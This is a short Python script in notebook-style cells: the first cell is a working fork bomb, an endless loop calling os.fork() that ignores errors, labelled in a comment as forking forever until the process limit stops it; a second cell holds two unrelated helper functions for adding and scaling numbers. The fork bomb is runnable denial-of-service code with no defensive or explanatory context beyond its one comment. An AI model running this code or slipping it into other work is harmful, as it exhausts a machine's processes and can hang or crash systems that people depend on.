# A fork bomb: every process forks forever; the process limit stops it.
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
# %%
def add(a, b):
    return a + b


def scale(x, k):
    return x * k
